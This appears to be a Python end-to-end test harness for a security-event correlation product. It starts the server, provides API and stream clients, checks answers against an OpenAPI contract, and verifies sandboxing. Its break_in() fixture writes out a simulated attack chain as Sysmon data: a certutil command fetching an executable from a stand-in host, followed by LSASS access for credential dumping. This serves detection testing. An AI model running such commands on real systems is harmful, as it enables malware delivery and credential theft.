# SPDX-License-Identifier: Apache-2.0
"""The product on a free port with a data folder of its own, and clients for it.

    import lab
    def retry_is_counted_once(l):                  # l: a Lab, running
        c = l.tenant()                             # a new tenant's Client
        ...
    lab.main(retry_is_counted_once, ...)

Every answer that a Client gets is held against www/openapi.json; what does not
fit fails the test at once. Python's standard library only.
"""
import atexit, http.client, json, os, random, re, shutil, signal, socket, subprocess, sys
import tempfile, time, traceback

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(os.path.dirname(HERE))
sys.path.insert(0, os.path.dirname(HERE))
import openapi

BUILD = os.path.join(ROOT, os.environ.get("BUILD") or "build")
SERVER = os.environ.get("SERVER") or "lighttpd"         # as of `make run`: lighttpd, apache, fcgid
CONTRACT = openapi.Contract(os.path.join(ROOT, "www", "openapi.json"))
SKIPPED = 77


class Skip(Exception):
    """Cannot be tried here; the text says why."""


def need(truth, *words):
    if not truth:
        raise AssertionError(" ".join(str(w) for w in words)[:2000])


def until(truth, seconds, step=0.01):
    """The first true value of truth(), or its last one when time is up."""
    end = time.monotonic() + seconds
    while True:
        value = truth()
        if value or time.monotonic() >= end:
            return value
        time.sleep(step)


# ------------------------------------------------------------------- clients

class Answer:
    def __init__(self, method, path, status, headers, body):
        self.method, self.path, self.status, self.headers, self.body = method, path, status, headers, body

    def json(self):
        return json.loads(self.body.decode("utf-8"))

    def lines(self):
        return [json.loads(x) for x in self.body.decode("utf-8").splitlines()]

    def want(self, *statuses):
        need(self.status in statuses, f"{self.method} {self.path}: want {statuses}, got {self.status}:",
             self.body[:500])
        return self

    def problem(self, *statuses):
        """It is this problem; -> the document."""
        self.want(*statuses)
        d = self.json()
        need(d["status"] == self.status and d["request_id"] == self.headers["x-request-id"], d)
        return d


class Client:
    def __init__(self, lab, key, base="/api/v1"):
        self.lab, self.key, self.base, self.conn, self.of = lab, key, base, None, None
        self.source = None                          # the address it comes from, if another than 127.0.0.1

    def on(self, base):
        return Client(self.lab, self.key, base)

    def request(self, method, path, body=None, headers=None, key=True):
        h = {"X-API-Key": self.key} if self.key and key else {}
        if isinstance(body, (dict, list)):
            body = json.dumps(body).encode()
            h["Content-Type"] = "application/json"
        h.update(headers or {})
        base = "" if path.startswith("/services/") else self.base   # that path is Splunk's
        if self.of is not self.lab.proc:            # it was started anew meanwhile
            self.conn, self.of = None, self.lab.proc
        for fresh in (False, True):
            if self.conn is None:
                self.conn, fresh = http.client.HTTPConnection("127.0.0.1", self.lab.port, timeout=60,
                    source_address=(self.source, 0) if self.source else None), True
            try:
                self.conn.request(method, base + path, body, h)
                r = self.conn.getresponse()
                a = Answer(method, path, r.status, {k.lower(): v for k, v in r.getheaders()}, r.read())
                break
            except (OSError, http.client.HTTPException):
                self.conn.close()
                self.conn = None
                if fresh or method != "GET":        # a kept connection may have been closed while idle
                    raise
        if "x-request-id" in a.headers:             # else it is the web server's own answer
            faults = CONTRACT.check(method, path, a.status, a.headers, a.body)
            need(not faults, "not as openapi.json says:", "; ".join(faults[:5]))
        return a

    def get(self, path, **kw):
        return self.request("GET", path, **kw)

    def post(self, path, body=None, **kw):
        return self.request("POST", path, body, **kw)

    def send(self, events, **kw):
        """POST events in the own form -> ids, in order."""
        return self.post("/events", {"events": events}, **kw).want(200).json()["event_ids"]

    def chains(self, **body):
        out = []
        while True:
            a = self.post("/causal/analyze", body or None).want(200).json()
            out += a["chains"]
            if a["next_cursor"] is None:
                return out
            body = dict(body, cursor=a["next_cursor"])

    def stream(self, query="", last=None, receive_buffer=None):
        return Stream(self.lab.port, self.base, self.key, query, last, receive_buffer)


class Person(Client):
    """Somebody with a browser at an address of his own: a cookie, and the header that the panel's pages send."""
    PASSWORD = "a quay of nine piers"
    born = 0

    def __init__(self, lab, name=None, source=None):
        super().__init__(lab, None)
        Person.born += 1
        self.name, self.cookie, self.attributes, self.tenant = name, None, "", None
        self.source = source or f"127.0.{1 + Person.born // 250}.{1 + Person.born % 250}"

    def request(self, method, path, body=None, headers=None, key=True):
        h = {"X-TRACE-Panel": "1"}
        if self.cookie:
            h["Cookie"] = self.cookie
        if self.tenant:                             # which an operator looks at
            h["X-TRACE-Tenant"] = self.tenant
        h.update(headers or {})
        a = super().request(method, path, body, {k: v for k, v in h.items() if v is not None}, key)
        if "set-cookie" in a.headers:
            self.cookie, _, self.attributes = a.headers["set-cookie"].partition(";")
        return a

    def sign_in(self, password=PASSWORD):
        return self.post("/admin/session", {"name": self.name, "password": password})


class Stream:
    """A subscriber of GET /causal/live, read only inside wait()."""

    def __init__(self, port, base, key, query="", last=None, receive_buffer=None, cookie=None, tenant=None):
        self.sock = socket.socket()
        if receive_buffer:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        self.sock.settimeout(20)
        self.sock.connect(("127.0.0.1", port))
        last = "" if last is None else f"Last-Event-ID: {last}\r\n"
        who = f"X-API-Key: {key}\r\n" if key else f"Cookie: {cookie}\r\nX-TRACE-Panel: 1\r\n" if cookie else ""
        if tenant:
            who += f"X-TRACE-Tenant: {tenant}\r\n"
        self.sock.sendall(f"GET {base}/causal/live{query} HTTP/1.1\r\nHost: localhost\r\n"
                          f"{who}{last}\r\n".encode())
        self.status, self.headers, self.wire, self.text = None, {}, b"", b""
        self.messages, self.comments, self.retry, self.ended = [], [], None, False

    def opened(self):
        need(self.wait(lambda: self.status, 10) == 200, "stream: status", self.status)
        return self

    def wait(self, truth, seconds):
        """Read until truth(), the end of the stream or of the time; -> truth()."""
        end = time.monotonic() + seconds
        while not truth() and not self.ended:
            left = end - time.monotonic()
            if left <= 0:
                break
            self.sock.settimeout(left)
            try:
                self.feed(self.sock.recv(1 << 16))
            except TimeoutError:
                break
            except OSError:
                self.ended = True
        return truth()

    def feed(self, data):
        now = time.monotonic()
        if not data:
            self.ended = True
            return
        self.wire += data
        if self.status is None:
            head, sep, rest = self.wire.partition(b"\r\n\r\n")
            if not sep:
                return
            first, *lines = head.decode("latin-1").split("\r\n")
            self.status = int(first.split()[1])
            self.headers = {k.strip().lower(): v.strip() for k, _, v in (l.partition(":") for l in lines)}
            self.wire = rest
        self.unchunk()
        *blocks, self.text = self.text.split(b"\n\n")
        for block in blocks:
            self.block(block.decode("utf-8"), now)

    def unchunk(self):
        if self.headers.get("transfer-encoding") != "chunked":
            self.text, self.wire = self.text + self.wire, b""
            return
        while b"\r\n" in self.wire:
            size, _, rest = self.wire.partition(b"\r\n")
            n = int(size, 16)
            if n == 0:
                self.ended = True
                return
            if len(rest) < n + 2:
                return
            self.text += rest[:n]
            self.wire = rest[n + 2:]

    def block(self, text, now):
        fields = {}
        for line in text.split("\n"):
            if line.startswith(":"):
                self.comments.append(now)
                continue
            name, _, value = line.partition(": ")
            need(name in ("id", "event", "data", "retry") and name not in fields, "odd line", line)
            fields[name] = value
        if "retry" in fields:
            self.retry = int(fields["retry"])
        if "data" in fields:
            self.messages.append((int(fields["id"]), fields["event"], json.loads(fields["data"]), now))

    def ids(self):
        return [m[0] for m in self.messages]

    def events_named(self):
        """Ids of all events that a message has named as new."""
        return {e for m in self.messages for e in m[2].get("added_nodes", [])}

    def close(self):
        self.sock.close()
        self.ended = True


# ---------------------------------------------------------------- the product

def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def descendants(pid):
    """pid and all processes below it."""
    parent = {}
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                with open(f"/proc/{name}/stat") as f:
                    parent[int(name)] = int(f.read().rpartition(")")[2].split()[1])
            except OSError:
                pass
    found = {pid}
    while True:
        more = {p for p, of in parent.items() if of in found} - found
        if not more:
            return found
        found |= more


class Lab:
    def __init__(self, conf=None):
        self.data = tempfile.mkdtemp(prefix="tra-ce-e2e-")
        self.conf, self.port, self.proc, self.tenants = conf, free_port(), None, 0

    def __enter__(self):
        atexit.register(self.stop)
        self.start()
        return self

    def __exit__(self, *exc):
        self.stop()
        if exc[0] is None or issubclass(exc[0], SystemExit):
            shutil.rmtree(self.data, ignore_errors=True)
        else:
            print(f"data is left in {self.data}")

    def start(self):
        env = dict(os.environ, PORT=str(self.port), DATA=self.data, DEMO="0", SERVER=SERVER,
                   BUILD=os.path.relpath(BUILD, ROOT))
        if self.conf:
            env["TRACE_CONFIG"] = os.path.join(self.data, "tra-ce.conf")
            with open(env["TRACE_CONFIG"], "w") as f:
                f.write(self.conf)
        log = open(os.path.join(self.data, "run.log"), "ab")
        self.proc = subprocess.Popen([sys.executable, os.path.join(ROOT, "packaging", "run.py")], env=env,
                                     stdin=subprocess.DEVNULL, stdout=log, stderr=log, start_new_session=True)
        log.close()
        if not until(self.up, 60, 0.05):
            with open(os.path.join(self.data, "run.log")) as f:
                sys.exit("the product does not come up:\n" + f.read()[-3000:])

    def up(self):
        if self.proc.poll() is not None:
            return False
        try:
            return self.anyone().get("/health").status == 200
        except (OSError, http.client.HTTPException):
            return False

    def alive(self):
        """Processes of the product that are left, zombies apart."""
        out = []
        for name in os.listdir("/proc"):
            if name.isdigit():
                try:
                    with open(f"/proc/{name}/environ", "rb") as f:
                        if b"\0DATA=" + self.data.encode() + b"\0" in b"\0" + f.read():
                            out.append(int(name))
                except OSError:
                    pass
        return out

    def stop(self):
        """As an operator does; nothing may be left."""
        if self.proc is None:
            return
        os.killpg(self.proc.pid, signal.SIGTERM)
        try:
            self.proc.wait(20)
        except subprocess.TimeoutExpired:
            print("the product did not stop within 20 s")
            self.kill()
        self.proc = None

    def kill(self):
        """kill -9 on every process, those born meanwhile included."""
        end = time.monotonic() + 10
        pids = descendants(self.proc.pid) | set(self.alive())
        while pids and time.monotonic() < end:
            for pid in pids:
                try:
                    os.kill(pid, signal.SIGKILL)
                except ProcessLookupError:
                    pass
            self.proc.poll()
            time.sleep(0.01)
            pids = set(self.alive())
        need(not pids, "some processes outlive kill -9", pids)
        self.proc.wait(10)
        self.proc = None

    def tool(self, *words):
        r = subprocess.run([os.path.join(BUILD, "tra-ce"), "--data", self.data, "--json", *words],
                           capture_output=True, text=True, timeout=60)
        need(r.returncode == 0, f"tra-ce {' '.join(words)}: {r.returncode}", r.stderr or r.stdout)
        return json.loads(r.stdout)

    def anyone(self):
        return Client(self, None)

    def tenant(self, name=None, plan="enterprise", rate=0):
        """A new tenant's first key."""
        self.tenants += 1
        words = ["tenant", "add", name or f"t{self.tenants}", "--plan", plan]
        if rate is not None:
            words += ["--rate", str(rate)]
        c = Client(self, self.tool(*words)["key"])
        c.name = name or f"t{self.tenants}"
        return c

    def key(self, tenant, *scopes, **options):
        words = ["key", "add", tenant.name, "--name", "e2e", "--scopes", ",".join(scopes)]
        for k, v in options.items():
            words += [f"--{k}", str(v)]
        a = self.tool(*words)
        c = Client(self, a["key"])
        c.name, c.key_id = tenant.name, a["key_id"]
        return c

    def person(self, name, tenant=None, sign_in=True):
        """A new administrator: an operator, or the tenant's."""
        token = self.tool("admin", "create", *(["--tenant", tenant] if tenant else []))["token"]
        p = Person(self, name)
        p.post("/admin/claim", {"token": token, "name": name, "password": p.PASSWORD}).want(201)
        if sign_in:
            p.sign_in().want(200)
        return p

    def responder(self, name):
        """Resident kB of each process of that responder."""
        out = []
        for pid in self.alive():
            try:
                with open(f"/proc/{pid}/cmdline") as f:
                    if f"/{name}.fcgi" not in f.read():
                        continue
                with open(f"/proc/{pid}/status") as f:
                    out.append(int(re.search(r"VmRSS:\s+(\d+)", f.read())[1]))
            except (OSError, TypeError):
                pass
        return out


# --------------------------------------------------------------- test matter

def stamp(seconds):
    whole, ms = divmod(round(seconds * 1000), 1000)
    return time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(whole)) + f".{ms:03d}Z"


def sign_in(n, **over):
    """An event in the own form, unique by its id."""
    e = {"id": f"sign-in-{n}", "event_type": "authentication", "source": "portal", "timestamp": stamp(1.7e9 + n),
         "actor": f"visitor{n}@harbour.example", "action": "login.failed", "target": "berths",
         "metadata": {"ip": "198.51.100.7", "try": n}}
    e.update(over)
    return {k: v for k, v in e.items() if v is not None}


def sysmon(rng, number, host, at, **fields):
    return {"Channel": "Microsoft-Windows-Sysmon/Operational", "SourceName": "Microsoft-Windows-Sysmon",
            "EventID": number, "Hostname": host, "UtcTime": stamp(at)[:-1].replace("T", " "), **fields}


def guid(rng):
    return "{%08x-%04x-%04x-%04x-%012x}" % tuple(rng.getrandbits(b) for b in (32, 16, 16, 16, 48))


def break_in(n, salt="", start=None):
    """A spreadsheet starts a shell that fetches and runs a program, which reads LSASS: five events of one host,
    four links by GUID. Nothing is shared with another n."""
    rng = random.Random(f"{salt}/{n}")
    start = start if start is not None else 1.75e9 + 3600 * n
    word = "%06x" % rng.getrandbits(24)
    host, user = f"desk-{word}.yard.example", f"YARD\\{word}"
    sheet, shell, fetch, tool, lsass = (guid(rng) for _ in range(5))
    image = {sheet: r"C:\Program Files\Office\EXCEL.EXE", shell: r"C:\Windows\System32\cmd.exe",
             fetch: r"C:\Windows\System32\certutil.exe", tool: rf"C:\Users\Public\{word}.exe"}

    def made(step, child, parent, line):
        return sysmon(rng, 1, host, start + step, ProcessGuid=child, ProcessId=str(rng.randrange(1000, 60000)),
                      Image=image[child], CommandLine=line, User=user, ParentProcessGuid=parent,
                      ParentImage=image.get(parent, r"C:\Windows\explorer.exe"),
                      Hashes="SHA256=%064X" % rng.getrandbits(256))
    raws = [made(0, sheet, guid(rng), f'EXCEL.EXE "{word}.xlsm"'),
            made(3, shell, sheet, f"cmd /c {word}.bat"),
            made(4, fetch, shell, f"certutil -urlcache -split -f http://203.0.113.9/{word} C:\\Users\\Public\\{word}.exe"),
            made(8, tool, shell, rf"C:\Users\Public\{word}.exe"),
            sysmon(rng, 10, host, start + 9, SourceProcessGUID=tool, SourceImage=image[tool], TargetProcessGUID=lsass,
                   TargetImage=r"C:\Windows\System32\lsass.exe", GrantedAccess="0x1410", SourceUser=user)]
    out = [{"id": f"{salt}/{n}/{i}", "source": "windows", "raw": r} for i, r in enumerate(raws)]
    for i, technique in ((2, "T1105"), (4, "T1003.001")):
        out[i].update(labels=["alert"], mitre_techniques=[technique])
    return out


# -------------------------------------------------------------------- running

def unconfined(l):
    """What is wrong with how responders have given up what they need not."""
    if "san" in BUILD:                             # sanitizers do what the filter forbids
        return []
    wrong = []
    for pid in l.alive():
        try:
            with open(f"/proc/{pid}/cmdline") as f:
                name = f.read().split("\0")[0]
            with open(f"/proc/{pid}/status") as f:
                status = dict(line.split(":\t", 1) for line in f.read().splitlines() if ":\t" in line)
        except OSError:
            continue
        if name.endswith(".fcgi") and (status.get("Seccomp"), status.get("NoNewPrivs")) != ("2", "1"):
            wrong.append(f"{name} is not confined")
    log = os.path.join(l.data, "responders.log")
    if os.path.exists(log):
        with open(log, encoding="utf-8", errors="replace") as f:
            wrong += [line.strip() for line in f if "forbidden system call" in line]
    return wrong


def main(*promises, conf=None):
    """Keep each promise on one server; the process' exit status tells."""
    failed = skipped = 0
    only = sys.argv[1:]
    with Lab(conf) as l:
        for f in promises:
            if only and not any(o in f.__name__ for o in only):
                continue
            begin = time.monotonic()
            try:
                f(l)
                word, why = "ok", ""
            except Skip as e:
                word, why, skipped = "skipped", str(e), skipped + 1
            except Exception:
                word, why, failed = "FAILED", traceback.format_exc(), failed + 1
            print(f"{word:8}{f.__name__}  {time.monotonic() - begin:.2f} s", flush=True)
            if why:
                print("        " + why.strip().replace("\n", "\n        "), flush=True)
        begin = time.monotonic()
        until(lambda: not unconfined(l), 5)        # one that was started just now is on its way
        wrong = unconfined(l)
        l.stop()
        for w in wrong:
            failed += 1
            print("FAILED  responders do with what they are left:", w)
        if until(lambda: not l.alive(), 5) is False:
            failed += 1
            print("FAILED  nothing is left after the stop:", l.alive())
        print(f"stopped {time.monotonic() - begin:.2f} s", flush=True)
        if failed:
            print(f"{failed} failed; data is left in {l.data}")
            l.data = tempfile.mkdtemp(prefix="tra-ce-e2e-")     # what __exit__ may remove
    sys.exit(1 if failed else SKIPPED if skipped == len(promises) else 0)
